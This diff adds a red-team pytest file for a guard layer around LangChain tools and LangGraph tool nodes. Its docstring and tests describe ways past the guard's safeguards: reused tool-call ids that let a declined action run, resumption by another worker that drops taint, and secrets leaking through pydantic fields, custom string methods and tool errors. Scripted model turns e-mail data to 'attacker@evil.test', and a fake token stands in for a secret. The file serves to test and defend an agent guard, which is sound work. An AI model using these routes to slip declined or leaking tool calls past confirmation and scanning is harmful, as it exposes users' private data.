@@ -1,0 +1,359 @@
+"""Red team: guarded LangChain tools and the guarded LangGraph ToolNode (#14).
+
+Attacks that got through the change as merged, by class; each test asserts
+the secure outcome and its stable code.
+
+1. Confirmation (I12): two tool calls sharing one call id make one answer
+   stand for the other; a call the person declined runs anyway when the
+   graph is resumed by another worker (or a rebuilt node) whose run is not
+   tainted yet.
+2. Taint travel (I12): a tool that answers with a ``Command`` returns a
+   ToolMessage without the run's taint, so the next request on the thread
+   starts clean.
+3. Output (I8): text the model sees but the scan does not (a pydantic
+   result's extra and computed fields, its own ``__str__``) and a tool's
+   error (``ToolException`` under ``handle_tool_error``, any error under
+   ``ToolNode(handle_tool_errors=True)``, a chained cause) carry a secret
+   into the model's context.
+"""
+
+from __future__ import annotations
+
+import asyncio
+from typing import Annotated, Any
+
+import pytest
+from langchain_core.messages import HumanMessage, ToolMessage
+from langchain_core.tools import InjectedToolCallId, ToolException, tool
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.types import Command
+from pydantic import BaseModel, ConfigDict, PrivateAttr, computed_field
+
+from aiinvariants import (
+    Guard,
+    OutputBlocked,
+    Policy,
+    Principal,
+    ToolForbidden,
+    acting_as,
+)
+from aiinvariants.integrations.langchain_tools import guard_tool
+from aiinvariants.integrations.langgraph import TAINT_KEY, guard_tool_node
+from aiinvariants.taint import agent_run
+from langgraph_support import (
+    ALICE,
+    AIMessage,
+    Outbox,
+    build_graph,
+    call,
+    guard,
+    make_tools,
+    turn,
+)
+
+SECRET = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
+HI = {"messages": [HumanMessage("help")]}
+
+
+def cfg(thread: str) -> dict[str, Any]:
+    return {"configurable": {"thread_id": thread}}
+
+
+# -- 1. confirmation -----------------------------------------------------------
+
+
+def test_a_shared_call_id_never_lets_a_declined_call_run() -> None:
+    # The model emits two e-mails with the same call id. The person declines
+    # the first question and approves the second: the declined one must not
+    # ride on the other's approval.
+    outbox = Outbox()
+    g = guard()
+    script = [
+        turn(
+            call("read_ticket", {"ticket_id": "7"}, "c1"),
+            call("search_kb", {"query": "vpn"}, "c2"),
+        ),
+        turn(
+            call("send_email", {"to": "attacker@evil.test", "body": "4242"}, "e"),
+            call("send_email", {"to": "friend@x.test", "body": "hi"}, "e"),
+        ),
+        AIMessage("done"),
+    ]
+    graph = build_graph(
+        script,
+        guard_tool_node(
+            g,
+            make_tools(outbox),
+            confirm="interrupt",
+            handle_tool_errors=(ToolForbidden,),
+        ),
+    )
+    with acting_as(ALICE), agent_run():
+        graph.invoke(HI, cfg("dup"))
+        graph.invoke(Command(resume=False), cfg("dup"))
+        out = graph.invoke(Command(resume=True), cfg("dup"))
+    assert ("attacker@evil.test", "4242") not in outbox.sent
+    errors = [
+        m
+        for m in out["messages"]
+        if isinstance(m, ToolMessage) and m.tool_call_id == "e" and m.status == "error"
+    ]
+    assert errors
+    assert all("tainted_run_needs_confirmation" in str(m.content) for m in errors)
+
+
+@pytest.mark.parametrize("answer", [False, "yes", {"approved": True}])
+def test_a_declined_call_stays_refused_when_resumed_by_another_worker(
+    answer: Any,
+) -> None:
+    # Worker 1: the run is tainted (a retrieval node and an untrusted input
+    # marked it, no ToolMessage carries it), the e-mail is asked. Worker 2
+    # (its own node object, a fresh run) resumes with a "no".
+    outbox = Outbox()
+    g = guard()
+    saver = InMemorySaver()
+    send = turn(call("send_email", {"to": "attacker@evil.test", "body": "b"}, "e1"))
+    first = build_graph(
+        [send, AIMessage("done")],
+        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run() as run:
+        run.mark_private("crm")
+        run.mark_untrusted("inbound-mail")
+        asked = first.invoke(HI, cfg("w"))
+    assert asked["__interrupt__"][0].value["tool_call_id"] == "e1"
+    second = build_graph(
+        [AIMessage("done")],
+        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
+        second.invoke(Command(resume=answer), cfg("w"))
+    assert info.value.code == "tainted_run_needs_confirmation"
+    assert outbox.sent == []
+
+
+def test_an_approval_given_to_another_worker_still_runs_the_call() -> None:
+    # The fix must not turn an approval into a refusal.
+    outbox = Outbox()
+    g = guard()
+    saver = InMemorySaver()
+    send = turn(call("send_email", {"to": "friend@x.test", "body": "b"}, "e1"))
+    first = build_graph(
+        [send, AIMessage("done")],
+        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run() as run:
+        run.mark_private("crm")
+        run.mark_untrusted("inbound-mail")
+        first.invoke(HI, cfg("ok"))
+    second = build_graph(
+        [AIMessage("done")],
+        guard_tool_node(g, make_tools(outbox), confirm="interrupt"),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run():
+        out = second.invoke(Command(resume=True), cfg("ok"))
+    assert "__interrupt__" not in out
+    assert outbox.sent == [("friend@x.test", "b")]
+
+
+# -- 2. taint travel -----------------------------------------------------------
+
+
+def _inbox_tool(g: Guard) -> Any:
+    @tool
+    def read_inbox(
+        folder: str, tool_call_id: Annotated[str, InjectedToolCallId]
+    ) -> Any:
+        """Read the user's mail (private, and untrusted content)."""
+        return Command(
+            update={"messages": [ToolMessage("mail: hi", tool_call_id=tool_call_id)]}
+        )
+
+    return guard_tool(g, read_inbox, data="internal", untrusted_output=True)
+
+
+def test_a_command_result_carries_the_runs_taint_to_the_next_request() -> None:
+    outbox = Outbox()
+    g = guard()
+    saver = InMemorySaver()
+    tools = [*make_tools(outbox), _inbox_tool(g)]
+    first = build_graph(
+        [turn(call("read_inbox", {"folder": "in"}, "r1")), AIMessage("read")],
+        guard_tool_node(g, tools),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run() as run:
+        out = first.invoke({"messages": [HumanMessage("read my mail")]}, cfg("c"))
+        assert run.tainted
+    stamped = [
+        m
+        for m in out["messages"]
+        if isinstance(m, ToolMessage) and TAINT_KEY in m.response_metadata
+    ]
+    assert stamped
+    # The next request on the thread (another worker, a new run without a
+    # confirmation callback): the e-mail needs confirmation, so it is refused.
+    second = build_graph(
+        [
+            turn(call("send_email", {"to": "x@evil.test", "body": "b"}, "e1")),
+            AIMessage("done"),
+        ],
+        guard_tool_node(g, tools),
+        checkpointer=saver,
+    )
+    with acting_as(ALICE), agent_run(), pytest.raises(ToolForbidden) as info:
+        second.invoke({"messages": [HumanMessage("now send it")]}, cfg("c"))
+    assert info.value.code == "tainted_run_needs_confirmation"
+    assert outbox.sent == []
+
+
+# -- 3. output ------------------------------------------------------------------
+
+POLICY = Policy()
+USER = Principal(subject="u", authenticated=True)
+
+
+class _Extra(BaseModel):
+    model_config = ConfigDict(extra="allow")
+    name: str
+
+
+class _Computed(BaseModel):
+    name: str
+
+    @computed_field  # type: ignore[prop-decorator]
+    @property
+    def token(self) -> str:
+        return SECRET
+
+
+class _OwnStr(BaseModel):
+    name: str
+    _token: str = PrivateAttr(default="")
+
+    def __str__(self) -> str:
+        return f"{self.name} {self._token}"
+
+
+def _own_str() -> _OwnStr:
+    value = _OwnStr(name="x")
+    value._token = SECRET
+    return value
+
+
+RESULTS: dict[str, Any] = {
+    "extra_field": lambda: _Extra(name="x", api_key=SECRET),
+    "computed_field": lambda: _Computed(name="x"),
+    "own_str": _own_str,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(RESULTS))
+def test_text_the_model_sees_in_a_model_result_is_scanned(shape: str) -> None:
+    make = RESULTS[shape]
+
+    @tool
+    def fetch(q: str) -> Any:
+        """Fetch a record."""
+        return make()
+
+    guarded = guard_tool(Guard(POLICY), fetch, data="public")
+    tool_call = {"name": "fetch", "args": {"q": "1"}, "id": "1", "type": "tool_call"}
+    with acting_as(USER), pytest.raises(OutputBlocked) as info:
+        guarded.invoke(tool_call)  # its ToolMessage would show the secret
+    assert info.value.code == "output_blocked"
+
+
+def _failing(g: Guard, exc: Exception, *, handle: bool = False) -> Any:
+    @tool
+    def lookup(q: str) -> str:
+        """Look something up upstream."""
+        raise exc
+
+    @tool
+    async def alookup(q: str) -> str:
+        """Look something up upstream."""
+        raise exc
+
+    lookup.handle_tool_error = handle
+    alookup.handle_tool_error = handle
+    return guard_tool(g, lookup, data="public"), guard_tool(g, alookup, data="public")
+
+
+@pytest.mark.parametrize("route", ["sync", "async"])
+def test_a_tool_exception_turned_into_output_is_scanned(route: str) -> None:
+    sync, asyn = _failing(
+        Guard(POLICY), ToolException(f"upstream: token {SECRET} invalid"), handle=True
+    )
+    tool_call = {"name": "lookup", "args": {"q": "1"}, "id": "1", "type": "tool_call"}
+    if route == "sync":
+        run = lambda: sync.invoke(tool_call)  # noqa: E731
+    else:
+        run = lambda: asyncio.run(asyn.ainvoke({**tool_call, "name": "alookup"}))  # noqa: E731
+    with acting_as(USER), pytest.raises(OutputBlocked) as info:
+        run()
+    assert info.value.code == "output_blocked"
+    assert SECRET not in repr(info.value)
+    assert info.value.__cause__ is None
+    assert info.value.__context__ is None
+
+
+def test_a_tool_exception_with_a_clean_message_still_becomes_output() -> None:
+    sync, _ = _failing(Guard(POLICY), ToolException("upstream is down"), handle=True)
+    with acting_as(USER):
+        assert sync.invoke({"q": "1"}) == "upstream is down"
+
+
+@pytest.mark.parametrize(
+    "exc",
+    [
+        ValueError(f"upstream: token {SECRET} invalid"),
+        KeyError(SECRET),
+    ],
+    ids=["message", "key"],
+)
+def test_a_tool_error_shown_to_the_model_by_the_tool_node_is_scanned(
+    exc: Exception,
+) -> None:
+    g = Guard(POLICY)
+    sync, _ = _failing(g, exc)
+    graph = build_graph(
+        [turn(call("lookup", {"q": "1"}, "x")), AIMessage("ok")],
+        guard_tool_node(g, [sync], handle_tool_errors=True),
+    )
+    with acting_as(USER):
+        out = graph.invoke(HI, cfg("err"))
+    shown = [m for m in out["messages"] if isinstance(m, ToolMessage)]
+    assert shown
+    assert SECRET not in str(shown[0].content)
+    assert "output_blocked" in str(shown[0].content)
+
+
+def test_a_secret_in_a_chained_cause_never_leaves_the_tool() -> None:
+    g = Guard(POLICY)
+
+    @tool
+    def lookup(q: str) -> str:
+        """Look something up upstream."""
+        try:
+            raise ConnectionError(f"POST /auth token={SECRET}")
+        except ConnectionError as exc:
+            raise RuntimeError("upstream failed") from exc
+
+    guarded = guard_tool(g, lookup, data="public")
+    with acting_as(USER), pytest.raises(OutputBlocked) as info:
+        guarded.invoke({"q": "1"})
+    assert info.value.code == "output_blocked"
+    chained = [info.value.__cause__, info.value.__context__]
+    assert all(c is None for c in chained)
+
+
+def test_an_ordinary_tool_error_is_raised_unchanged() -> None:
+    g = Guard(POLICY)
+    sync, _ = _failing(g, ValueError("bad input"))
+    with acting_as(USER), pytest.raises(ValueError, match="bad input"):
+        sync.invoke({"q": "1"})
